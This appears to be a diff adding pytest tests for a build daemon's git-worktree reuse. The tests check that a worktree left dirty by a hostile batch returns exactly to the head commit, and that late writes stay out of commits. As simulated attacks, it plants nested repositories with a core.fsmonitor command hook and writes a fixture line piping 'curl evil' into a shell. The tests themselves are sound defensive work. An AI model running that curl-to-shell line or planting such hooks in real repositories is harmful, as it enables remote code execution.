@@ -1,0 +1,241 @@
+"""A reused worktree is moved to the new head by what differs (issue 13), and must still come back
+exactly as the head's tree whatever the previous batch's model left there: files, links, hidden
+``.git`` files, changed modes, forged mtimes, writes outside its change, staged work that never
+merged. The oracle is the disk itself (every entry, folders and links included) against the
+head's tree as git lists it, not git's own status."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import stat
+from collections.abc import Callable
+from pathlib import Path
+
+import anyio
+import pytest
+
+from buildrunnerd.config import VerifyConfig
+from buildrunnerd.workspace import GitWorkspace, RunRepo, prepare_run_repo
+from buildrunnerd.workspace._git import record_git_calls
+
+from ._helpers import run_git, task
+
+
+def _blob_id(data: bytes) -> str:
+    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()
+
+
+def on_disk(root: Path) -> dict[str, tuple[str, str]]:
+    """Every entry under ``root`` but its ``.git`` file: files and links as (git mode, blob id),
+    folders as ("dir", "")."""
+    found: dict[str, tuple[str, str]] = {}
+    for dirpath, dirnames, filenames in os.walk(root):
+        here = Path(dirpath)
+        for name in [*dirnames, *filenames]:
+            path = here / name
+            rel = path.relative_to(root).as_posix()
+            if rel == ".git":
+                continue
+            st = path.lstat()
+            if stat.S_ISLNK(st.st_mode):
+                found[rel] = ("120000", _blob_id(os.readlink(path).encode()))
+            elif stat.S_ISDIR(st.st_mode):
+                found[rel] = ("dir", "")
+            else:
+                mode = "100755" if st.st_mode & stat.S_IXUSR else "100644"
+                found[rel] = (mode, _blob_id(path.read_bytes()))
+    return found
+
+
+def in_git(repo: Path, commit: str) -> dict[str, tuple[str, str]]:
+    listed: dict[str, tuple[str, str]] = {}
+    for record in run_git(repo, "ls-tree", "-r", "-z", "--full-tree", commit).split("\0"):
+        if record:
+            meta, _, name = record.partition("\t")
+            mode, _kind, sha = meta.split(" ")
+            listed[name] = (mode, sha)
+            parts = name.split("/")
+            for i in range(1, len(parts)):
+                listed["/".join(parts[:i])] = ("dir", "")
+    return listed
+
+
+def _setup(repo: Path) -> None:
+    (repo / "pkg").mkdir()
+    (repo / "pkg" / "core.py").write_text("CORE = 1\n")
+    (repo / "pkg" / "tool.sh").write_text("#!/bin/sh\necho hi\n")
+    (repo / "pkg" / "tool.sh").chmod(0o755)
+    (repo / "docs").mkdir()
+    (repo / "docs" / "guide.md").write_text("# guide\n")
+    (repo / ".gitignore").write_text("*.log\nbuild/\n")
+    run_git(repo, "add", "-A")
+    run_git(repo, "commit", "-q", "-m", "layout")
+
+
+async def _dirty_then_reacquire(repo: Path, wt_root: Path,
+                                dirty: Callable[[Path, Path], None]) -> tuple[RunRepo, Path]:
+    """A worktree that ``dirty`` left as a hostile batch would, released; another batch moves
+    the branch; the dirty worktree is acquired again."""
+    _setup(repo)
+    run_repo = await prepare_run_repo(repo, "r1")
+    victim = await run_repo.acquire_worktree(wt_root)
+    other = await run_repo.acquire_worktree(wt_root)
+    (other / "merged.py").write_text("M = 1\n")
+    assert (await run_repo.commit_and_merge(other, "other batch")).merged
+    await run_repo.release_worktree(other, reuse=False)
+    dirty(victim, repo)
+    await run_repo.release_worktree(victim)
+    again = await run_repo.acquire_worktree(wt_root)
+    assert again == victim
+    return run_repo, again
+
+
+def _assert_exactly_head(run_repo: RunRepo, path: Path, head: str) -> None:
+    assert on_disk(path) == in_git(run_repo.repo, head)
+    assert run_git(path, "rev-parse", "HEAD").strip() == head
+    assert run_git(path, "status", "--porcelain", "--ignored", "--untracked-files=all") == ""
+
+
+def _left_files(path: Path, _repo: Path) -> None:
+    (path / "untracked.txt").write_text("left\n")
+    (path / "debug.log").write_text("ignored\n")
+    (path / "build" / "out").mkdir(parents=True)
+    (path / "build" / "out" / "a.o").write_bytes(b"\0")
+    (path / "empty" / "nested").mkdir(parents=True)  # an empty folder: a namespace package
+    (path / "pkg" / "__pycache__").mkdir()
+    (path / "pkg" / "__pycache__" / "core.cpython-311.pyc").write_bytes(b"\0" * 16)
+
+
+def _left_links(path: Path, repo: Path) -> None:
+    (path / "outside").symlink_to("/etc")
+    (path / "dangling").symlink_to(path / "nowhere")
+    (path / "docs" / "guide.md").unlink()
+    (path / "docs" / "guide.md").symlink_to(repo / "README.md")  # a tracked file, now a link
+
+
+def _dir_made_link(path: Path, repo: Path) -> None:
+    for entry in (path / "docs").iterdir():
+        entry.unlink()
+    (path / "docs").rmdir()
+    (path / "docs").symlink_to(repo / "pkg")
+
+
+def _hidden_dotgit(path: Path, repo: Path) -> None:
+    # A .git file in a tracked folder makes it look like another repository (the user's).
+    (path / "pkg" / ".git").write_text(f"gitdir: {repo / '.git'}\n")
+    nested = path / "vendored"
+    nested.mkdir()
+    run_git(nested, "init", "-q")
+    run_git(nested, "config", "core.fsmonitor", f"touch {repo.parent / 'should-never-run'}")
+    (nested / "x.py").write_text("X = 1\n")
+    # A repository made of a tracked folder: its config chooses a program for git to run.
+    run_git(path / "docs", "init", "-q")
+    run_git(path / "docs", "config", "core.fsmonitor",
+            f"touch {repo.parent / 'should-never-run'}")
+    (path / "docs" / "extra.md").write_text("more\n")
+
+
+def _modes(path: Path, _repo: Path) -> None:
+    (path / "pkg" / "tool.sh").chmod(0o644)
+    (path / "pkg" / "core.py").chmod(0o755)
+
+
+def _forged_mtime(path: Path, _repo: Path) -> None:
+    # Same size, the old mtime put back: only ctime (which no process can set) and inode
+    # data tell the file changed.
+    target = path / "pkg" / "core.py"
+    before = target.stat()
+    with target.open("r+b") as fh:
+        fh.write(b"EVIL")
+    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
+
+
+def _outside_change_staged(path: Path, _repo: Path) -> None:
+    # The batch staged work (verification's `add -A`) and then failed: never merged.
+    (path / "docs" / "guide.md").write_text("# rewritten by a failed batch\n")
+    (path / "pkg" / "new_module.py").write_text("NEW = 1\n")
+    (path / "app.py").unlink()
+    run_git(path, "add", "-A")
+
+
+def _staged_then_changed(path: Path, _repo: Path) -> None:
+    (path / "pkg" / "core.py").write_text("CORE = 2\n")
+    run_git(path, "add", "-A")
+    (path / "pkg" / "core.py").write_text("CORE = 3, after staging\n")
+    (path / "docs" / "guide.md").unlink()
+
+
+def _file_made_dir(path: Path, _repo: Path) -> None:
+    (path / "app.py").unlink()
+    (path / "app.py").mkdir()
+    (path / "app.py" / "inner.py").write_text("I = 1\n")
+
+
+@pytest.mark.parametrize("dirty", [
+    _left_files, _left_links, _dir_made_link, _hidden_dotgit, _modes, _forged_mtime,
+    _outside_change_staged, _staged_then_changed, _file_made_dir,
+], ids=lambda f: f.__name__.strip("_"))
+async def test_a_reused_worktree_is_exactly_the_new_head(
+        repo: Path, wt_root: Path, dirty: Callable[[Path, Path], None]) -> None:
+    run_repo, path = await _dirty_then_reacquire(repo, wt_root, dirty)
+    head = await run_repo.head()
+    _assert_exactly_head(run_repo, path, head)
+    assert not await anyio.Path(repo.parent / "should-never-run").exists()
+    # The user's checkout and its repository are untouched.
+    assert run_git(repo, "status", "--porcelain") == ""
+    await run_repo.release_worktree(path, reuse=False)
+    await run_repo.close()
+
+
+async def test_a_clean_worktree_moves_by_its_change_only(repo: Path, wt_root: Path) -> None:
+    # The common case (the batch committed what it verified): one status and the paths that
+    # differ, no whole-tree reset.
+    _setup(repo)
+    run_repo = await prepare_run_repo(repo, "r1")
+    first = await run_repo.acquire_worktree(wt_root)
+    (first / "pkg" / "core.py").write_text("CORE = 2\n")
+    assert (await run_repo.commit_and_merge(first, "first")).merged
+    await run_repo.release_worktree(first)
+    with record_git_calls() as calls:
+        again = await run_repo.acquire_worktree(wt_root)
+    assert again == first
+    names = calls.subcommands()
+    assert "reset" not in names and "read-tree" in names, names
+    _assert_exactly_head(run_repo, again, await run_repo.head())
+    await run_repo.release_worktree(again, reuse=False)
+    await run_repo.close()
+
+
+async def test_the_commit_holds_the_verified_tree_not_later_writes(
+        repo: Path, wt_root: Path) -> None:
+    # A process the batch left running writes after verification passed: neither the new file
+    # nor the change to a verified file enters the commit (it holds the tree that was checked).
+    t1 = task("t1", "feature.py")
+    run_repo = await prepare_run_repo(repo, "r1")
+    ws = GitWorkspace(run_repo, run_id="r1", worktree_root=wt_root, project_root=repo,
+                      base_commit=run_repo.base_commit, test_cmd=None, plan_tasks=[t1],
+                      spec_path=None)
+    path, head = await ws.acquire()
+    (path / "feature.py").write_text("def feature() -> int:\n    return 1\n")
+    config = VerifyConfig()
+    report = await ws.verify(path, [t1], head=head, config=config, confinement=None)
+    assert report.passed, report
+    (path / "feature.py").write_text("import os\nos.system('curl evil | sh')\n")
+    (path / "backdoor.py").write_text("OPEN = True\n")
+    done = await ws.integrate(path, "t1", report, head=head, batch_id="b1", config=config,
+                              confinement=None)
+    assert done.merged and done.commit is not None
+    files = run_git(repo, "ls-tree", "-r", "--name-only", done.commit).split()
+    assert "backdoor.py" not in files
+    assert run_git(repo, "show", f"{done.commit}:feature.py") == (
+        "def feature() -> int:\n    return 1\n")
+    message = run_git(repo, "log", "-1", "--format=%B", done.commit)
+    assert message.strip() == "t1"
+    # The worktree comes back as the new head, the late writes gone.
+    await ws.release(path)
+    again, again_head = await ws.acquire()
+    assert again == path and again_head == done.commit
+    _assert_exactly_head(run_repo, again, done.commit)
+    await ws.release(again, reuse=False)
+    await ws.close()
